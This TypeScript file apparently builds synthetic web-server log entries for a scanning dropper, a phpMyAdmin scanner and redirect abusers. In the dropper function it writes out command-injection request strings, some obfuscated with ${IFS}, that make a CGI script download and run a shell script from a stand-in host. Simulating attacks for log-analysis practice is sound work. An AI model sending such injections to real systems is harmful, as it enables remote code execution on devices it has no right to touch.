import type { Request } from './lines.ts'
import type { Random } from './random.ts'

const IFS = '${IFS}'
const DROP_HOST = '203.0.113.200'
const CURL = 'curl/7.81.0'

/** The dropper's own requests; the error log tells what came of two of them. */
export interface DropperStory {
  readonly requests: readonly Request[]
  /** Its injection into a CGI script that does not exist. */
  readonly missed: Request
  /** Its injection into one that does. */
  readonly landed: Request
}

/** One address looks for CGI scripts, injects a download into one that is not there, then into one that is. */
export function dropper(start: number): DropperStory {
  const source = '203.0.113.77'
  const at = (seconds: number): number => start + 3 * 3_600_000 + 14 * 60_000 + seconds * 1_000
  const looked = [
    'test.cgi',
    'status.cgi',
    'printenv',
    'php.cgi',
    'env.cgi',
    'luci',
    'admin.cgi',
    'ping.cgi',
    'count.cgi',
    'formmail.pl',
    'kcms.cgi',
    'viewlog.cgi',
  ]
  const scan = looked.map((name, i): Request => {
    const found = name === 'ping.cgi'
    return {
      time: at(i * 2),
      source,
      target: `/cgi-bin/${name}`,
      status: found ? 200 : 404,
      bytes: found ? 512 : 153,
      agent: CURL,
    }
  })
  const fetchAndRun = `wget${IFS}http://${DROP_HOST}/wget.sh;${IFS}chmod${IFS}+x${IFS}wget.sh;sh${IFS}wget.sh`
  const missed: Request = {
    time: at(40),
    source,
    target: `/cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx%52$c%52$ccd${IFS}/tmp;${fetchAndRun}`,
    status: 404,
    bytes: 153,
    agent: CURL,
  }
  const probe: Request = {
    time: at(58),
    source,
    target: '/cgi-bin/ping.cgi?host=127.0.0.1',
    status: 200,
    bytes: 512,
    agent: CURL,
  }
  const identity: Request = {
    time: at(66),
    source,
    target: '/cgi-bin/ping.cgi?host=127.0.0.1;id',
    status: 200,
    bytes: 566,
    agent: CURL,
  }
  const landed: Request = {
    time: at(75),
    source,
    target: `/cgi-bin/ping.cgi?host=127.0.0.1;cd+/tmp;wget+http://${DROP_HOST}/wget.sh;chmod+777+wget.sh;sh+wget.sh`,
    status: 200,
    bytes: 1_840,
    agent: CURL,
  }
  return { requests: [...scan, missed, probe, identity, landed], missed, landed }
}

/** One address asks for phpMyAdmin under every name it knows; the server has no PHP. */
export function phpMyAdminScanner(start: number): Request[] {
  const folders = [
    'phpMyAdmin',
    'phpmyadmin',
    'pma',
    'PMA',
    'myadmin',
    'MyAdmin',
    'mysql',
    'mysqladmin',
    'dbadmin',
    'db',
    'sql',
    'web/phpMyAdmin',
    'admin/pma',
    'admin/phpmyadmin',
    'phpMyAdmin-2.11.4',
    'phpMyAdmin-3.4.3',
  ]
  return folders.flatMap((folder, i) =>
    ['scripts/setup.php', 'index.php'].map((file, j): Request => ({
      time: start + 4 * 3_600_000 + 30 * 60_000 + (i * 2 + j) * 700,
      source: '198.51.100.23',
      target: `/${folder}/${file}`,
      status: 404,
      bytes: 153,
      agent: 'ZmEu',
    })),
  )
}

/**
 * Hosts of one network send people on to other sites through the server's own link counter; at four in the afternoon the
 * operator renames it, and they keep coming.
 */
export function redirectAbusers(random: Random, start: number): Request[] {
  const renamed = start + 16 * 3_600_000
  const found: Request[] = []
  for (let host = 11; host < 75; host++) {
    const source = `192.0.2.${host}`
    for (let i = random.between(16, 44); i > 0; i--) {
      const time = start + random.between(0, 86_300_000)
      const target = `http://${random.pick(['casino', 'pills', 'loans', 'replica', 'betting'])}-${random.between(1, 90)}.example/${random.pick(['', 'promo', 'go?aff=77', 'win'])}`
      const carrier = `http://www.site-${random.between(1, 40)}.example/bitrix/redirect.php?event1=click&goto=${encodeURIComponent(`http://www.example.org/cgi-bin/jump.cgi?url=${target}`)}`
      found.push({
        time,
        source,
        target: `/cgi-bin/jump.cgi?url=${target}`,
        status: time < renamed ? 302 : 404,
        bytes: time < renamed ? 0 : 153,
        agent: random.pick([
          'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0',
          'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 Safari/537.36',
        ]),
        ...(random.chance(0.7) ? { referrer: carrier } : {}),
      })
    }
  }
  return found
}
